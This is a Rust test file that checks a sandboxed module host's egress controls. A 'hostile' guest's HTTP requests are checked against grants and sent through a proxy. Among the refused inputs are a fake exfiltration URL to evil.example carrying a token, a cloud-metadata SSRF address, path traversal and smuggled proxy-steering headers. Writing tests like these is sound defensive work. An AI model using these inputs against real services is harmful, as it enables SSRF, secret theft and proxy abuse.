//! A module's outgoing HTTP, end to end: the hostile guest's `fetch` tool
//! sends through `wasi:http`, the host checks each request against the
//! grants, and permitted ones leave through [`ProxyEgress`] to a real server
//! on loopback. Every refusal is asserted with its error kind and with the
//! server's record that nothing arrived.

#![allow(clippy::unwrap_used, clippy::expect_used)]

#[path = "support/server.rs"]
mod server;

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};

use hardshell_module_host::{
    BodyLimits, CallError, Denial, Grants, HostGrant, ModuleHost, Prepared, ProxyAddress,
    ProxyEgress, ProxyTimeouts,
};
use hardshell_vocabulary::Host;

fn host_through(proxy: ProxyAddress) -> (ModuleHost, Prepared) {
    host_with(ProxyEgress::new(proxy))
}

fn host_with(egress: ProxyEgress) -> (ModuleHost, Prepared) {
    let host =
        ModuleHost::new(Arc::new(egress), BodyLimits::default()).expect("the module host starts");
    let hostile = host
        .prepare(&hardshell_testkit::modules::guest("hostile"))
        .expect("the hostile guest prepares");
    (host, hostile)
}

fn granting(address: SocketAddr, path_prefix: Option<&str>, methods: Option<&[&str]>) -> Grants {
    let mut grants = Grants::compute_only(64, 5_000);
    grants.hosts.push(HostGrant {
        scheme: "http".into(),
        host: Host::parse(&address.ip().to_string()).expect("an IPv4 address as a host"),
        port: address.port(),
        methods: methods.map(|list| list.iter().map(|m| m.to_string()).collect()),
        path_prefix: path_prefix.map(str::to_string),
    });
    grants
}

async fn fetch(
    host: &ModuleHost,
    module: &Prepared,
    grants: &Grants,
    method: &str,
    url: &str,
    body_bytes: usize,
) -> Result<String, CallError> {
    fetch_with(host, module, grants, method, url, body_bytes, "").await
}

/// [`fetch`] with one request header the module sets (`name: value`).
async fn fetch_with(
    host: &ModuleHost,
    module: &Prepared,
    grants: &Grants,
    method: &str,
    url: &str,
    body_bytes: usize,
    header: &str,
) -> Result<String, CallError> {
    let body = "b".repeat(body_bytes);
    let arguments =
        serde_json::json!({"method": method, "url": url, "body": body, "header": header});
    host.call(module, grants, "fetch", &arguments.to_string())
        .await
}

#[tokio::test]
async fn a_module_cannot_set_the_headers_that_steer_the_proxy() {
    // The broker routes by the request's destination and puts secrets in by
    // route: a Host of the module's choosing, its own proxy credentials, or
    // a framing header could make the broker see another request than the
    // one the grants checked.
    let (address, seen) = server::start_tcp().await;
    let (host, module) = host_through(ProxyAddress::Tcp(address));
    let grants = granting(address, Some("/api"), None);
    let allowed = format!("http://{address}/api/x");
    for header in [
        "host: other.example",
        "Host: other.example",
        "proxy-authorization: Basic YTpi",
        "connection: close",
        "transfer-encoding: chunked",
        "upgrade: websocket",
    ] {
        let error = fetch_with(&host, &module, &grants, "GET", &allowed, 0, header)
            .await
            .expect_err(header);
        let CallError::Tool { message } = &error else {
            panic!("{header}: {error:?}");
        };
        assert!(message.contains("Forbidden"), "{header}: {message}");
    }
    assert_eq!(
        server::seen(&seen),
        Vec::<String>::new(),
        "a refused request was sent"
    );
    // A header of the module's own is sent.
    let answer = fetch_with(
        &host,
        &module,
        &grants,
        "GET",
        &allowed,
        0,
        "x-request-id: 7",
    )
    .await;
    assert_eq!(answer.ok().as_deref(), Some("200 hello GET /api/x body=0"));
    assert_eq!(server::seen(&seen), vec![format!("GET {allowed}")]);
}

#[tokio::test]
async fn a_declared_host_is_reached_and_others_are_refused() {
    let (address, seen) = server::start_tcp().await;
    let (host, module) = host_through(ProxyAddress::Tcp(address));
    let grants = granting(address, Some("/api"), Some(&["GET"]));

    let allowed = format!("http://{address}/api/search?q=1");
    let answer = fetch(&host, &module, &grants, "GET", &allowed, 0).await;
    assert_eq!(
        answer.ok().as_deref(),
        Some("200 hello GET /api/search body=0")
    );
    // The proxy saw the absolute form, as the broker expects it.
    assert_eq!(server::seen(&seen), vec![format!("GET {allowed}")]);

    let other_port = SocketAddr::new(address.ip(), address.port().wrapping_add(1));
    let refused = [
        (
            "GET",
            "http://localhost:{port}/api/x".replace("{port}", &address.port().to_string()),
        ),
        (
            "GET",
            "http://169.254.169.254/latest/meta-data/".to_string(),
        ),
        ("GET", format!("http://{other_port}/api/x")),
        ("GET", format!("https://{address}/api/x")),
        ("GET", format!("http://{address}/admin")),
        ("GET", format!("http://{address}/api/../admin")),
        ("POST", format!("http://{address}/api/x")),
        ("GET", format!("http://user:pw@{address}/api/x")),
    ];
    for (method, url) in refused {
        let error = fetch(&host, &module, &grants, method, &url, 0)
            .await
            .expect_err("an undeclared destination");
        assert!(
            matches!(error, CallError::RequestDenied(_)),
            "{method} {url}: {error:?}"
        );
        // A good request right after the refused one still works.
        let again = fetch(&host, &module, &grants, "GET", &allowed, 0).await;
        assert!(again.is_ok(), "after {method} {url}: {again:?}");
    }
    let reached: Vec<String> = server::seen(&seen)
        .into_iter()
        .filter(|line| line != &format!("GET {allowed}"))
        .collect();
    assert_eq!(
        reached,
        Vec::<String>::new(),
        "refused requests reached the proxy"
    );
}

#[tokio::test]
async fn the_denial_names_the_destination_not_the_path() {
    let (address, _seen) = server::start_tcp().await;
    let (host, module) = host_through(ProxyAddress::Tcp(address));
    let grants = granting(address, None, None);
    let error = fetch(
        &host,
        &module,
        &grants,
        "GET",
        "http://evil.example/steal?token=s3cret",
        0,
    )
    .await
    .expect_err("undeclared");
    assert!(
        matches!(&error, CallError::RequestDenied(Denial::HostNotGranted { host, port: 80, .. }) if host == "evil.example"),
        "{error:?}"
    );
    assert!(!error.to_string().contains("s3cret"), "{error}");
}

#[tokio::test]
async fn the_broker_is_reached_over_a_unix_socket() {
    let directory = tempfile::tempdir().expect("tempdir");
    let socket = directory.path().join("broker.sock");
    let seen = server::start_unix(&socket).await;
    let (host, module) = host_through(ProxyAddress::Unix(socket));
    let destination: SocketAddr = "127.0.0.1:8080".parse().expect("address");
    let grants = granting(destination, None, None);
    let answer = fetch(
        &host,
        &module,
        &grants,
        "POST",
        "http://127.0.0.1:8080/submit",
        10,
    )
    .await;
    assert_eq!(
        answer.ok().as_deref(),
        Some("200 hello POST /submit body=10")
    );
    assert_eq!(
        server::seen(&seen),
        vec!["POST http://127.0.0.1:8080/submit".to_string()]
    );
}

#[tokio::test]
async fn bodies_past_their_limits_are_refused() {
    let (address, _seen) = server::start_tcp().await;
    let (host, module) = host_through(ProxyAddress::Tcp(address));
    let grants = granting(address, None, None);

    let big_response = format!("http://{address}/big");
    let error = fetch(&host, &module, &grants, "GET", &big_response, 0)
        .await
        .expect_err("the response is past 4 MiB");
    assert!(
        matches!(&error, CallError::Tool { message } if message.contains("HttpResponseBodySize")),
        "{error:?}"
    );

    let echo = format!("http://{address}/echo");
    let error = fetch(&host, &module, &grants, "POST", &echo, (1 << 20) + 1)
        .await
        .expect_err("the request is past 1 MiB");
    assert!(
        matches!(&error, CallError::Tool { message } if message.contains("HttpRequestBodySize")),
        "{error:?}"
    );
    let answer = fetch(&host, &module, &grants, "POST", &echo, 1 << 20).await;
    assert_eq!(
        answer.ok().as_deref(),
        Some("200 hello POST /echo body=1048576")
    );
}

#[tokio::test]
async fn responses_held_unread_are_bounded_together() {
    let (address, _seen) = server::start_tcp().await;
    let (host, module) = host_through(ProxyAddress::Tcp(address));
    let grants = granting(address, None, None);
    let held = BodyLimits::default().held_response_bytes >> 20;
    let fetch_many = |count: usize, keep: bool| {
        let arguments =
            format!(r#"{{"url":"http://{address}/mib","count":{count},"keep":{keep}}}"#);
        let (host, module, grants) = (&host, &module, &grants);
        async move { host.call(module, grants, "fetch_many", &arguments).await }
    };
    // Up to the bound, 1 MiB responses may be held unread...
    let answer = fetch_many(held, true).await;
    let expected = format!("received {held}, held {held}");
    assert_eq!(answer.ok(), Some(expected));
    // ...and any number fetched one after another, each let go.
    let count = held + 4;
    let answer = fetch_many(count, false).await;
    assert_eq!(answer.ok(), Some(format!("received {count}, held 0")));
    // One more held than the bound is refused.
    let error = fetch_many(held + 1, true)
        .await
        .expect_err("past the held bound");
    assert!(
        matches!(&error, CallError::Tool { message } if message.contains("HttpResponseBodySize")),
        "{error:?}"
    );
}

#[tokio::test]
async fn a_module_waiting_on_a_slow_destination_is_stopped_at_its_deadline() {
    let (address, _seen) = server::start_tcp().await;
    let (host, module) = host_through(ProxyAddress::Tcp(address));
    let mut grants = granting(address, None, None);
    grants.timeout_ms = 500;
    let started = Instant::now();
    let error = fetch(
        &host,
        &module,
        &grants,
        "GET",
        &format!("http://{address}/hang"),
        0,
    )
    .await
    .expect_err("the destination never answers");
    assert!(
        matches!(error, CallError::Timeout { timeout_ms: 500 }),
        "{error:?}"
    );
    assert!(
        started.elapsed() < Duration::from_secs(3),
        "{:?}",
        started.elapsed()
    );
}

/// Short step timeouts under a long call deadline: a stuck proxy must be
/// given up on at its step's timeout, not at the deadline.
const STEP_TIMEOUTS: ProxyTimeouts = ProxyTimeouts {
    connect: Duration::from_millis(300),
    response_head: Duration::from_millis(300),
};
const LONG_DEADLINE_MS: u64 = 20_000;

#[tokio::test]
async fn a_proxy_that_accepts_and_never_answers_is_given_up_on_before_the_deadline() {
    let address = server::start_silent().await;
    let (host, module) =
        host_with(ProxyEgress::new(ProxyAddress::Tcp(address)).with_timeouts(STEP_TIMEOUTS));
    let mut grants = granting(address, None, None);
    grants.timeout_ms = LONG_DEADLINE_MS;
    let started = Instant::now();
    let error = fetch(
        &host,
        &module,
        &grants,
        "GET",
        &format!("http://{address}/x"),
        0,
    )
    .await
    .expect_err("the proxy never answers");
    let elapsed = started.elapsed();
    assert!(
        matches!(&error, CallError::Tool { message } if message.contains("HttpResponseTimeout")),
        "{error:?}"
    );
    assert!(
        elapsed < Duration::from_secs(5),
        "gave up after {elapsed:?}"
    );
    // The same egress still reaches a proxy that answers.
    let (answering, _seen) = server::start_tcp().await;
    let (host, module) =
        host_with(ProxyEgress::new(ProxyAddress::Tcp(answering)).with_timeouts(STEP_TIMEOUTS));
    let grants = granting(answering, None, None);
    let answer = fetch(
        &host,
        &module,
        &grants,
        "GET",
        &format!("http://{answering}/x"),
        0,
    )
    .await;
    assert_eq!(answer.ok().as_deref(), Some("200 hello GET /x body=0"));
}

#[tokio::test]
async fn a_proxy_that_does_not_accept_is_given_up_on_before_the_deadline() {
    let (address, _backlog) = server::start_not_accepting().await;
    let (host, module) =
        host_with(ProxyEgress::new(ProxyAddress::Tcp(address)).with_timeouts(STEP_TIMEOUTS));
    let mut grants = granting(address, None, None);
    grants.timeout_ms = LONG_DEADLINE_MS;
    let started = Instant::now();
    let error = fetch(
        &host,
        &module,
        &grants,
        "GET",
        &format!("http://{address}/x"),
        0,
    )
    .await
    .expect_err("the proxy never accepts");
    let elapsed = started.elapsed();
    assert!(
        matches!(&error, CallError::Tool { message } if message.contains("ConnectionTimeout")),
        "{error:?}"
    );
    assert!(
        elapsed < Duration::from_secs(5),
        "gave up after {elapsed:?}"
    );
}

#[tokio::test]
async fn no_grants_reach_nowhere() {
    let (address, seen) = server::start_tcp().await;
    let (host, module) = host_through(ProxyAddress::Tcp(address));
    let grants = Grants::compute_only(64, 5_000);
    let error = fetch(
        &host,
        &module,
        &grants,
        "GET",
        &format!("http://{address}/"),
        0,
    )
    .await
    .expect_err("nothing granted");
    assert!(matches!(error, CallError::RequestDenied(_)), "{error:?}");
    assert!(server::seen(&seen).is_empty());
}

#[tokio::test]
async fn https_goes_to_the_broker_as_plain_http_to_the_same_host_and_port() {
    // The broker holds an https host as a TLS route: it takes the request
    // in plain HTTP and speaks TLS onward itself.
    let (address, seen) = server::start_tcp().await;
    let (host, module) = host_through(ProxyAddress::Tcp(address));
    let mut grants = granting(address, Some("/api"), Some(&["GET"]));
    grants.hosts[0].scheme = "https".into();
    let answer = fetch(
        &host,
        &module,
        &grants,
        "GET",
        &format!("https://{address}/api/search?q=1"),
        0,
    )
    .await;
    assert_eq!(
        answer.ok().as_deref(),
        Some("200 hello GET /api/search body=0")
    );
    assert_eq!(
        server::seen(&seen),
        vec![format!("GET http://{address}/api/search?q=1")]
    );
    // The grant is for https: plain http to the same host and port is not.
    let error = fetch(
        &host,
        &module,
        &grants,
        "GET",
        &format!("http://{address}/api/search"),
        0,
    )
    .await
    .expect_err("an http request under an https grant");
    assert!(matches!(error, CallError::RequestDenied(_)), "{error:?}");
    assert_eq!(
        server::seen(&seen).len(),
        1,
        "the refused one reached the proxy"
    );
}
